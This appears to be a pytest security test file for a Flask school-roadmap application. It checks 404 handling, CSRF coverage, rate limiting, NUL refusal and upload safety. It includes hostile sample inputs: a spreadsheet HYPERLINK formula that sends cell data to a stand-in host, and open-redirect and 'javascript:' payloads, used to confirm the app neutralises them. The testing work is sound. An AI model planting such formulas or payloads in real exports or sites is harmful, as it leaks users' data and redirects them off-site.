"""What a careless or hostile signed-in user tries: no 500, no formula, no open redirect."""

from __future__ import annotations

import dataclasses
import io
import re
import subprocess
import sys
import time
import urllib.request

import openpyxl
import pytest
from flask import url_for
from sqlalchemy import select, update

from engine.accounts.users import issue_api_token
from engine.db import unit_of_work
from engine.demo import DEMO_PASSWORD
from engine.importing.canonical import export_dict, export_xlsx
from engine.importing.document import read_roadmap
from engine.models import Activity, Occurrence, Roadmap, User
from tests.smtp import free_port
from tests.webclient import client_as, first_planned, report, state_of

HUGE = "99999999999999999999"  # past 2^63: no database id can be this
WIDE = str(2**31)  # past PostgreSQL's INTEGER: fine in Python and SQLite, an error there
FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"x")'


@pytest.fixture
def app(demo, make_web_app):
    return make_web_app(TESTING=True, WTF_CSRF_ENABLED=False, SECRET_KEY="test")


def _roadmap_id(db) -> int:
    with unit_of_work(db, readonly=True) as session:
        return session.execute(select(Roadmap.id)).scalar_one()


@pytest.mark.parametrize(
    "path",
    [
        f"/occurrences/{HUGE}",
        f"/occurrences/{WIDE}",
        f"/evidence/{WIDE}",
        f"/schools/{WIDE}",
        f"/evidence/{HUGE}",
        f"/documents/{HUGE}",
        f"/schools/{HUGE}",
        f"/roadmaps/{HUGE}",
        f"/roadmaps/{HUGE}/report.xlsx",
        "/occurrences/0",
    ],
)
def test_ids_no_database_can_hold_are_404(app, path: str) -> None:
    assert client_as(app, "coordinator").get(path).status_code == 404


@pytest.mark.parametrize(
    "query", [f"page={HUGE}", f"section={HUGE}", f"section={WIDE}", "page=²", "section=-1"]
)
def test_odd_query_values_fall_back_to_the_default(app, query: str) -> None:
    response = client_as(app, "school1").get(f"/tasks?{query}")
    assert response.status_code == 200 and 'id="overdue-count"' in response.text


def test_posting_to_a_huge_id_is_404(app) -> None:
    school = client_as(app, "school1")
    assert school.post(f"/occurrences/{HUGE}/start").status_code == 404
    coordinator = client_as(app, "coordinator")
    assert coordinator.post(f"/escalations/{HUGE}/acknowledge").status_code == 404


@pytest.mark.parametrize(
    "item", ["foo", "occurrence:²", f"occurrence:{HUGE}", f"occurrence:{WIDE}", "document:", ":1"]
)
def test_bulk_approval_skips_what_is_not_an_item(app, item: str) -> None:
    curator = client_as(app, "curator1")
    asked = curator.post("/queue/approve", data={"item": [item]})
    assert asked.status_code == 200 and "Выбранное уже не ждёт проверки." in asked.text
    response = curator.post("/queue/approve", data={"item": [item], "confirmed": "1"})
    assert response.status_code == 303


@pytest.mark.parametrize("value", ["²", HUGE, WIDE, "-3", "x"])
def test_marking_odd_notification_ids_read_is_harmless(app, value: str) -> None:
    response = client_as(app, "school1").post("/inbox/read", data={"id": [value]})
    assert response.status_code == 303


def test_an_overlong_report_is_refused_and_nothing_changes(app, demo) -> None:
    school = client_as(app, "school1")
    occurrence = first_planned(demo, "school1")
    school.post(f"/occurrences/{occurrence}/start")
    page = report(school, occurrence, files=(), text="щ" * 20_001)
    assert "Текст слишком длинный" in page.text
    assert state_of(demo, occurrence) == "in_progress"
    report(school, occurrence, files=(), text="щ" * 20_000)
    assert state_of(demo, occurrence) == "reported"


@pytest.mark.parametrize(
    "target",
    [
        "//example.invalid/",
        "/\t/example.invalid",
        "/\\example.invalid",
        "https://example.invalid/",
        "javascript:alert(1)",
        " /example",
    ],
)
def test_next_never_leaves_the_site(app, demo, target: str) -> None:
    occurrence = first_planned(demo, "school1")
    response = client_as(app, "coordinator").post(
        f"/occurrences/{occurrence}/extend",
        data={"due_on": "2030-01-01", "reason": "приказ", "next": target},
    )
    location = response.headers["Location"]
    assert response.status_code == 303
    assert location.startswith("/") and not location.startswith("//")
    assert "example" not in location and "javascript" not in location


def test_a_local_next_is_followed(app, demo) -> None:
    occurrence = first_planned(demo, "school1")
    response = client_as(app, "coordinator").post(
        f"/occurrences/{occurrence}/extend",
        data={"due_on": "2030-01-01", "reason": "приказ", "next": "/roadmaps/1"},
    )
    assert response.headers["Location"] == "/roadmaps/1"


def test_hsts_only_over_https(demo, make_web_app) -> None:
    plain = make_web_app(TESTING=True, SECRET_KEY="t").test_client().get("/login")
    assert "Strict-Transport-Security" not in plain.headers
    secure = make_web_app(TESTING=True, SECRET_KEY="t", SESSION_COOKIE_SECURE=True)
    header = secure.test_client().get("/login").headers.get("Strict-Transport-Security", "")
    assert header.startswith("max-age=31536000")


def test_a_session_is_not_bound_to_the_browser(app) -> None:
    """Sessions are bound by their token (rotated on sign-out), not by IP or User-Agent."""
    school = client_as(app, "school1")
    moved = school.get("/tasks", headers={"User-Agent": "другой телефон"})
    assert moved.status_code == 200


@pytest.fixture
def api(demo, make_web_app):
    with unit_of_work(demo) as session:
        user = session.execute(select(User.id).where(User.login == "school1")).scalar_one()
        token = issue_api_token(session, user, "test")
    client = make_web_app(TESTING=True, SECRET_KEY="api").test_client()
    headers = {"Authorization": f"Bearer {token}"}

    def call(method: str, path: str, **kwargs):  # type: ignore[no-untyped-def]
        return client.open(f"/api/v1{path}", method=method, headers=headers, **kwargs)

    return call


@pytest.mark.parametrize(
    "path",
    [f"/occurrences/{HUGE}", f"/occurrences/{WIDE}/history", "/no/such/thing"],
)
def test_api_unknown_ids_and_paths_are_json_404(api, path: str) -> None:
    response = api("GET", path)
    assert response.status_code == 404 and response.json["error"]["code"] == "not_found"


def test_api_odd_query_values_are_422_naming_each(api) -> None:
    response = api("GET", f"/occurrences?page={HUGE}&school={HUGE}&per_page=²&state=nope")
    assert response.status_code == 422 and response.json["error"]["code"] == "invalid"
    assert {f["field"] for f in response.json["error"]["fields"]} == {"page", "school", "per_page"}
    unknown = api("GET", "/occurrences?state=nope")
    assert unknown.status_code == 422 and "nope" in unknown.json["error"]["message"]


@pytest.mark.parametrize(
    "body",
    [
        {"trigger": "start", "comment": 123},
        {"trigger": "start", "comment": {}},
        {"trigger": "start", "report_text": ["a"]},
        {"trigger": 5},
        [1, 2],
    ],
)
def test_api_bodies_of_the_wrong_type_are_422(api, demo, body) -> None:
    occurrence = first_planned(demo, "school1")
    response = api("POST", f"/occurrences/{occurrence}/transitions", json=body)
    assert response.status_code == 422 and response.json["error"]["code"] == "invalid"
    assert state_of(demo, occurrence) == "planned"


def test_api_deeply_nested_json_is_422(api, demo) -> None:
    occurrence = first_planned(demo, "school1")
    nested = "[" * 100_000 + "]" * 100_000
    response = api(
        "POST",
        f"/occurrences/{occurrence}/transitions",
        data=nested,
        content_type="application/json",
    )
    assert response.status_code == 422


def test_api_overlong_comment_is_422_with_its_reason(api, demo) -> None:
    occurrence = first_planned(demo, "school1")
    api("POST", f"/occurrences/{occurrence}/transitions", json={"trigger": "start"})
    response = api(
        "POST",
        f"/occurrences/{occurrence}/transitions",
        json={"trigger": "report", "report_text": "a" * 20_001},
    )
    assert response.status_code == 422 and response.json["error"]["reason"] == "text_too_long"


def _no_formula(data: bytes) -> list[str]:
    """Every cell value of the first sheet; fails on a formula cell."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    values = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"formula in {cell.coordinate}: {cell.value}"
            if cell.value is not None:
                values.append(cell.value)
    return values


def test_the_execution_report_writes_user_text_as_text(app, demo) -> None:
    with unit_of_work(demo) as session:
        worked = session.execute(select(Occurrence.activity_id).limit(1)).scalar_one()
        session.execute(update(Activity).where(Activity.id == worked).values(title=FORMULA))
        session.execute(update(Roadmap).values(title="+7 " + "дорожная карта"))
    response = client_as(app, "coordinator").get(f"/roadmaps/{_roadmap_id(demo)}/report.xlsx")
    values = _no_formula(response.data)
    assert "'" + FORMULA in values
    assert FORMULA not in values


def test_the_roadmap_export_keeps_text_text_and_imports_back(demo, tmp_path) -> None:
    with unit_of_work(demo) as session:
        first, second = (
            session.execute(select(Activity.id).order_by(Activity.position).limit(2))
            .scalars()
            .all()
        )
        session.execute(update(Activity).where(Activity.id == first).values(title=FORMULA))
        session.execute(update(Activity).where(Activity.id == second).values(title="-проведение"))
        data = export_dict(session, _roadmap_id(demo))
    path = tmp_path / "export.xlsx"
    path.write_bytes(export_xlsx(data))
    values = _no_formula(path.read_bytes())
    assert "'" + FORMULA in values and "'-проведение" in values
    titles = [a.title for a in read_roadmap(path).activities]
    assert FORMULA in titles and "-проведение" in titles


def test_gunicorn_does_not_name_itself(tmp_path) -> None:
    port = free_port()
    env = {"DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}", "SECRET_KEY": "t", "PATH": ""}
    server = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "gunicorn",
            "--config",
            "python:web.gunicorn_conf",
            "--bind",
            f"127.0.0.1:{port}",
            "--workers",
            "1",
            "web.wsgi:app",
        ],
        env={**env, "ROADMAP_DATA_DIR": str(tmp_path)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/healthz", timeout=2) as r:
                    server_header = r.headers.get("Server", "")
                break
            except OSError:
                if time.monotonic() > deadline or server.poll() is not None:
                    raise
                time.sleep(0.2)
    finally:
        server.terminate()
        server.wait(15)
    assert "gunicorn" not in server_header.lower() and server_header == "roadmap"


def _signed_in_with_csrf(app, who: str):  # type: ignore[no-untyped-def]
    client = app.test_client()
    page = client.get("/login").text
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    signed = client.post(
        "/login", data={"login": who, "password": DEMO_PASSWORD, "csrf_token": token}
    )
    assert signed.status_code == 302
    return client


def test_every_post_route_outside_the_api_needs_the_csrf_token(demo, make_web_app) -> None:
    """Walk the URL map: a POST without the token is refused before the view runs, for every
    role, so an exemption added by mistake anywhere fails here."""
    app = make_web_app(TESTING=True, SECRET_KEY="csrf")
    routes = [
        rule
        for rule in app.url_map.iter_rules()
        if "POST" in (rule.methods or ()) and not rule.rule.startswith("/api/")
    ]
    assert len(routes) > 15
    for who in ("school1", "curator1", "coordinator"):
        client = _signed_in_with_csrf(app, who)
        for rule in routes:
            values = {arg: "start" if arg == "trigger" else 1 for arg in rule.arguments}
            with app.test_request_context():
                path = url_for(rule.endpoint, **values)
            response = client.post(path, data={"comment": "x", "reason": "x"})
            assert response.status_code == 400, f"{who}: POST {rule.rule} without a CSRF token"
            assert "CSRF" in response.text or "csrf" in response.text.lower()


def test_the_api_is_the_one_exemption_and_needs_a_bearer_token(demo, make_web_app) -> None:
    app = make_web_app(TESTING=True, SECRET_KEY="csrf")
    client = _signed_in_with_csrf(app, "school1")  # a browser session is not enough
    response = client.post("/api/v1/occurrences/1/transitions", json={"trigger": "start"})
    assert response.status_code == 401


def _stored_files(root) -> list:  # type: ignore[no-untyped-def]
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def test_a_refused_upload_leaves_no_file_on_disk(app, demo, tmp_path) -> None:
    """Four good files and one bad: the request is refused and none of the four stays."""
    school = client_as(app, "school1")
    occurrence = first_planned(demo, "school1")
    school.post(f"/occurrences/{occurrence}/start")
    files = [(f"акт{i}.pdf", b"%PDF-1.4 good") for i in range(4)] + [("x.exe", b"MZ bad")]
    page = report(school, occurrence, files=files)
    assert "Принимаются только файлы" in page.text
    assert state_of(demo, occurrence) == "in_progress"
    assert _stored_files(tmp_path / "evidence") == []
    report(school, occurrence, files=files[:1])  # a good one is kept, with its row
    assert len(_stored_files(tmp_path / "evidence")) == 1


def test_cleanup_removes_old_orphans_and_previews_only(app, demo, tmp_path) -> None:
    import os
    from datetime import timedelta

    from engine.models import utcnow
    from tests.factories import app_for
    from worker.jobs import FILE_GRACE, run_cleanup

    school = client_as(app, "school1")
    occurrence = first_planned(demo, "school1")
    school.post(f"/occurrences/{occurrence}/start")
    report(school, occurrence, files=(("акт.pdf", b"%PDF-1.4 kept"),))
    (kept,) = _stored_files(tmp_path / "evidence")
    old = (utcnow() - FILE_GRACE - timedelta(minutes=5)).timestamp()
    orphan = tmp_path / "evidence" / "ab" / "ab0123456789"
    young = tmp_path / "evidence" / "cd" / "cd0123456789"
    preview = tmp_path / "uploads" / "0123abcd.docx"
    fresh_preview = tmp_path / "uploads" / "4567abcd.docx"
    for path in (orphan, young, preview, fresh_preview):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"x")
    for path in (orphan, preview, kept):
        os.utime(path, (old, old))
    base = app_for(demo)
    settings = dataclasses.replace(
        base.settings, evidence_dir=tmp_path / "evidence", upload_dir=tmp_path / "uploads"
    )
    application = dataclasses.replace(base, settings=settings)
    assert run_cleanup(application) == {"orphans": 1, "previews": 1}
    assert kept.exists() and young.exists() and fresh_preview.exists()
    assert not orphan.exists() and not preview.exists()


@pytest.fixture
def limited(demo, make_web_app):
    return make_web_app(
        TESTING=True, WTF_CSRF_ENABLED=False, SECRET_KEY="t", LOGIN_RATE_LIMIT="3 per minute"
    )


def _try(app, login: str, password: str, address: str = "10.0.0.1") -> int:  # type: ignore[no-untyped-def]
    client = app.test_client()
    response = client.post(
        "/login",
        data={"login": login, "password": password},
        environ_base={"REMOTE_ADDR": address},
    )
    return response.status_code


def test_an_account_is_limited_wherever_the_attempts_come_from(limited) -> None:
    codes = [_try(limited, "school1", "wrong", f"10.0.0.{i}") for i in range(4)]
    assert codes == [200, 200, 200, 429]
    assert _try(limited, "school1", DEMO_PASSWORD, "10.9.9.9") == 429  # even the right one
    assert _try(limited, "school2", DEMO_PASSWORD, "10.0.0.1") == 302  # others sign in


def test_an_unknown_login_is_answered_like_a_known_one(limited) -> None:
    known = [_try(limited, "school1", "wrong", "10.1.0.1") for _ in range(4)]
    unknown = [_try(limited, "no-such-user", "wrong", "10.1.0.2") for _ in range(4)]
    assert known == unknown == [200, 200, 200, 429]


def test_one_school_behind_a_shared_address_does_not_lock_out_the_rest(limited) -> None:
    """The address allows five times the account's failures: typos of one school's staff
    stop that account, not the whole NAT."""
    assert [_try(limited, "school1", "wrong", "10.2.0.1") for _ in range(3)] == [200] * 3
    assert _try(limited, "school2", DEMO_PASSWORD, "10.2.0.1") == 302
    for login in ("school2", "school3", "school4", "school5"):
        for _ in range(3):
            _try(limited, login, "wrong", "10.2.0.1")
    # fifteen failures from the address: now it is used up, for every account behind it
    assert _try(limited, "curator1", DEMO_PASSWORD, "10.2.0.1") == 429
    assert _try(limited, "curator1", DEMO_PASSWORD, "10.3.0.1") == 302


def test_a_nul_character_is_refused_not_a_crash(app, demo) -> None:
    """PostgreSQL refuses NUL in text: every value holding one is a 4xx before any query."""
    coordinator = client_as(app, "coordinator")
    assert coordinator.get("/directory?q=a%00b").status_code == 400
    assert coordinator.get("/tasks?state=%00").status_code == 400
    assert client_as(app, "school1").post("/inbox/read", data={"id": "1\x00"}).status_code == 400


def test_api_nul_and_non_object_bodies_are_422(api, demo) -> None:
    assert api("GET", "/occurrences?state=plan%00ned").status_code == 422
    occurrence = first_planned(demo, "school1")
    path = f"/occurrences/{occurrence}/transitions"
    nul = api("POST", path, json={"trigger": "start", "comment": "a\u0000b"})
    assert nul.status_code == 422 and "NUL" in nul.json["error"]["message"]
    for body in ("null", "[]", '"start"', "5"):
        response = api("POST", path, data=body, content_type="application/json")
        assert response.status_code == 422, body
    assert state_of(demo, occurrence) == "planned"
